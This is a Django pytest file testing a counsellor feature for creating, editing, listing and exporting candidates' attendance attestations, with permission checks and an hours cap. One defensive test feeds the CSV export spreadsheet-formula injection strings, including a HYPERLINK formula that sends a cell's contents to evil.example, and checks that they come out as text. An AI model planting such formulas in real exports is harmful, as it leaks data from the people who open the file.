"""*Ajouter une attestation*: the rules of a session, the summary, changes, deletion, the list with
its CSV export, the 24-hour meter, and who sees what."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse

from candidates.attestations import services as attestation_services
from candidates.models import Attestation

from .factories import CandidateFactory, CounsellorFactory

pytestmark = pytest.mark.django_db
PARIS = ZoneInfo("Europe/Paris")


def at(day, hour, minute=0):
    return datetime.datetime(2026, 10, day, hour, minute, tzinfo=PARIS)


def form_data(dossier, start=("05/10/2026", "09:00"), end=("05/10/2026", "12:00"), **extra):
    return {"start_0": start[0], "start_1": start[1], "end_0": end[0], "end_1": end[1], "dossier": dossier.pk, **extra}


def attest(candidate, counsellor, start, end):
    return attestation_services.attestation_create(
        counsellor=counsellor, dossier=candidate.dossier, start=start, end=end
    )


@pytest.fixture
def add_url():
    return reverse("attestations:add")


def test_the_form_starts_today_from_9_to_12_for_the_chosen_candidate(client, counsellor, candidate, add_url):
    client.force_login(counsellor)
    page = client.get(add_url, {"dossier": candidate.dossier.pk}).content.decode()
    assert "Créer Attestation de présence" in page
    assert 'value="09:00"' in page and 'value="12:00"' in page
    assert f'<option value="{candidate.dossier.pk}" selected>Lucas BERNARD' in page
    assert "Enregistrer" in page and "Aperçu" in page


def test_create_then_see_the_summary_of_the_guide(client, counsellor, candidate, add_url, phases):
    candidate.dossier.phases.set(phases[:2])
    client.force_login(counsellor)
    response = client.post(add_url, form_data(candidate.dossier), follow=True)
    attestation = Attestation.objects.get()
    assert response.redirect_chain[-1][0] == reverse("attestations:detail", args=[attestation.pk])
    page = response.content.decode()
    assert f"L&#x27;attestation de présence {attestation.reference} a été créée." in page
    for text in (
        "05/10/2026 - 09:00",
        "05/10/2026 - 12:00",
        "(3 h)",
        "Lucas",
        "BERNARD",
        "Modalités",
        "A distance",
        "Date du bilan",
        "Mon Conseiller",
        "Claire BOAD",
        phases[0].title,
        "Membre depuis",
        "Voir",
        "Modifier",
        "Supprimer",
        "Télécharger (PDF)",
    ):
        assert text in page, text
    assert attestation.duration_minutes == 180 and attestation.counsellor == counsellor
    assert attestation.reference.startswith("ATT-2026-")


@pytest.mark.parametrize(
    ("start", "end", "field", "message"),
    [
        (("05/10/2026", "12:00"), ("05/10/2026", "09:00"), "end", "La fin de la séance doit être après son début."),
        (("05/10/2026", "09:00"), ("06/10/2026", "10:00"), "end", "plus d&#x27;une journée"),
        (("31/08/2026", "09:00"), ("31/08/2026", "12:00"), "start", "pendant le bilan, du 01/09/2026 au 31/12/2026"),
        (("02/01/2027", "09:00"), ("02/01/2027", "12:00"), "start", "pendant le bilan"),
    ],
)
def test_session_rules_are_explained_next_to_the_field(
    client, counsellor, candidate, add_url, start, end, field, message
):
    client.force_login(counsellor)
    response = client.post(add_url, form_data(candidate.dossier, start, end))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Attestation.objects.exists()


def test_overlapping_sessions_are_refused(client, counsellor, candidate, add_url):
    first = attest(candidate, counsellor, at(5, 9), at(5, 12))
    client.force_login(counsellor)
    response = client.post(add_url, form_data(candidate.dossier, ("05/10/2026", "11:00"), ("05/10/2026", "14:00")))
    assert response.status_code == 400
    assert f"chevauche l&#x27;attestation {first.reference}" in response.content.decode()
    touching = client.post(add_url, form_data(candidate.dossier, ("05/10/2026", "12:00"), ("05/10/2026", "14:00")))
    assert touching.status_code == 302


def test_going_past_24_hours_needs_a_confirmation_and_is_flagged(client, counsellor, candidate, add_url):
    for day in range(1, 4):
        attest(candidate, counsellor, at(day, 9), at(day, 17))  # 3 × 8 h = 24 h
    client.force_login(counsellor)
    refused = client.post(add_url, form_data(candidate.dossier))
    assert refused.status_code == 400
    page = refused.content.decode()
    assert "le total attesté passerait à 27 h" in page
    assert "Je confirme cette séance au-delà du plafond légal" in page
    confirmed = client.post(add_url, form_data(candidate.dossier, over_cap="on"))
    assert confirmed.status_code == 302
    assert Attestation.objects.get(start=at(5, 9)).over_cap is True
    assert Attestation.objects.filter(over_cap=True).count() == 1


def test_only_my_candidates_can_be_chosen(client, counsellor, add_url):
    stranger = CandidateFactory(dossier__counsellor=CounsellorFactory())
    client.force_login(counsellor)
    page = client.get(add_url).content.decode()
    assert stranger.last_name not in page
    response = client.post(add_url, form_data(stranger.dossier))
    assert response.status_code == 400
    assert "Sélectionnez un choix valide" in response.content.decode()
    assert not Attestation.objects.exists()


def test_errors_keep_what_was_typed(client, counsellor, candidate, add_url):
    client.force_login(counsellor)
    page = client.post(add_url, form_data(candidate.dossier, ("07/10/2026", "14:00"), ("07/10/2026", "13:15")))
    content = page.content.decode()
    assert 'value="07/10/2026"' in content and 'value="14:00"' in content and 'value="13:15"' in content
    assert f'<option value="{candidate.dossier.pk}" selected>' in content


def test_modifier_changes_the_session(client, counsellor, candidate):
    attestation = attest(candidate, counsellor, at(5, 9), at(5, 12))
    client.force_login(counsellor)
    url = reverse("attestations:edit", args=[attestation.pk])
    assert 'value="05/10/2026"' in client.get(url).content.decode()
    response = client.post(url, form_data(candidate.dossier, ("05/10/2026", "14:00"), ("05/10/2026", "16:30")))
    assert response.status_code == 302
    attestation.refresh_from_db()
    assert attestation.duration_minutes == 150


def test_supprimer_asks_for_confirmation(client, counsellor, candidate):
    attestation = attest(candidate, counsellor, at(5, 9), at(5, 12))
    client.force_login(counsellor)
    url = reverse("attestations:delete", args=[attestation.pk])
    assert "sera définitivement supprimée" in client.get(url).content.decode()
    assert client.post(url, {}).status_code == 400
    assert Attestation.objects.exists()
    assert client.post(url, {"confirm": "on"}).status_code == 302
    assert not Attestation.objects.exists()


def test_the_meter_sums_hours_on_the_dashboard_and_the_account_pages(client, counsellor, candidate):
    attest(candidate, counsellor, at(5, 9), at(5, 12))
    attest(candidate, counsellor, at(6, 14), at(6, 15, 30))
    client.force_login(counsellor)
    assert "4 h 30 / 24 h" in client.get(reverse("dashboard")).content.decode()
    account = client.get(reverse("dossiers:candidate", args=[candidate.dossier.pk])).content.decode()
    assert "<strong>4 h 30</strong> sur 24 h" in account
    client.force_login(candidate)
    mine = client.get(reverse("accounts:account")).content.decode()
    assert "Mes attestations" in mine and "<strong>4 h 30</strong> sur 24 h" in mine
    assert mine.count("Télécharger (PDF)") == 2


def test_list_filters_by_candidate_and_month_and_exports_csv(client, counsellor, candidate):
    other = CandidateFactory(last_name="ZOLA", first_name="Émile", dossier__counsellor=counsellor)
    attest(candidate, counsellor, at(5, 9), at(5, 12))
    attestation_services.attestation_create(
        counsellor=counsellor,
        dossier=other.dossier,
        start=datetime.datetime(2026, 11, 3, 9, tzinfo=PARIS),
        end=datetime.datetime(2026, 11, 3, 10, 30, tzinfo=PARIS),
    )
    stranger = CandidateFactory(last_name="INCONNU", dossier__counsellor=CounsellorFactory())
    attest(stranger, stranger.dossier.counsellor, at(5, 9), at(5, 12))
    client.force_login(counsellor)
    url = reverse("attestations:list")
    everything = client.get(url).content.decode()
    assert "BERNARD" in everything and "ZOLA" in everything and "INCONNU" not in everything
    by_month = client.get(url, {"mois": "2026-11"}).content.decode()
    assert "ZOLA" in by_month and "Lucas BERNARD</td>" not in by_month
    by_candidate = client.get(url, {"candidat": candidate.dossier.pk}).content.decode()
    assert "Lucas BERNARD</td>" in by_candidate and "Émile ZOLA</td>" not in by_candidate
    export = client.get(url, {"mois": "2026-11", "format": "csv"})
    assert export["Content-Type"].startswith("text/csv")
    lines = export.content.decode("utf-8-sig").strip().splitlines()
    assert lines[0].startswith("Référence;Nom;Prénom;DABM;Date;Début;Fin;Durée (minutes)")
    assert len(lines) == 2
    assert ";ZOLA;Émile;" in lines[1] and ";03/11/2026;09:00;10:30;90;1 h 30;" in lines[1]


def test_no_cell_of_the_csv_export_is_read_as_a_formula(client, counsellor):
    """Names typed as spreadsheet formulas come out as text (a leading '), read back with `csv`."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+SUM(1,1)", "-2+3", "@SUM(1,1)", "\tTAB"]
    for day, formula in enumerate(formulas, start=5):
        person = CandidateFactory(first_name=formula, last_name=formula, dossier__counsellor=counsellor)
        attest(person, counsellor, at(day, 9), at(day, 12))
    client.force_login(counsellor)
    export = client.get(reverse("attestations:list"), {"format": "csv"}).content.decode("utf-8-sig")
    heading, *rows = csv.reader(io.StringIO(export), delimiter=";")
    assert len(rows) == len(formulas)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    names = {dict(zip(heading, row, strict=True))["Prénom"] for row in rows}
    assert names == {f"'{formula}" for formula in formulas}


def test_another_counsellor_gets_404_and_candidates_never_reach_these_pages(client, counsellor, candidate):
    attestation = attest(candidate, counsellor, at(5, 9), at(5, 12))
    pages = [
        reverse(name, args=[attestation.pk])
        for name in ("attestations:detail", "attestations:edit", "attestations:delete")
    ]
    client.force_login(CounsellorFactory())
    for url in pages:
        assert client.get(url).status_code == 404
        # the summary is read-only: POST is refused (405) before anything is looked up
        assert client.post(url, {"confirm": "on"}).status_code == (405 if url == pages[0] else 404)
    assert Attestation.objects.exists()
    client.force_login(candidate)
    for url in pages + [reverse("attestations:add"), reverse("attestations:list")]:
        assert client.get(url).status_code == 404
    client.logout()
    assert client.get(reverse("attestations:add")).status_code == 302


def test_the_menu_offers_ajouter_une_attestation_to_counsellors(client, counsellor, candidate):
    client.force_login(counsellor)
    assert "Ajouter une attestation" in client.get(reverse("dashboard")).content.decode()
    client.force_login(candidate)
    assert "Ajouter une attestation" not in client.get(reverse("dashboard")).content.decode()


def test_apercu_renders_the_pdf_without_saving_anything(client, counsellor, candidate):
    client.force_login(counsellor)
    response = client.post(reverse("attestation_preview"), form_data(candidate.dossier))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    assert not Attestation.objects.exists()


def test_apercu_of_an_invalid_session_shows_the_errors(client, counsellor, candidate):
    client.force_login(counsellor)
    response = client.post(
        reverse("attestation_preview"), form_data(candidate.dossier, ("05/10/2026", "12:00"), ("05/10/2026", "09:00"))
    )
    assert response.status_code == 400
    assert "La fin de la séance doit être après son début." in response.content.decode()
    assert not Attestation.objects.exists()


def test_apercu_is_for_counsellors_only(client, candidate):
    client.force_login(candidate)
    assert client.post(reverse("attestation_preview"), form_data(candidate.dossier)).status_code == 404


def test_date_and_time_inputs_have_their_own_labels(client, counsellor):
    client.force_login(counsellor)
    page = client.get(reverse("attestations:add")).content.decode()
    for name in ("start", "end"):
        for index in (0, 1):
            assert f'for="id_{name}_{index}"' in page and f'id="id_{name}_{index}"' in page
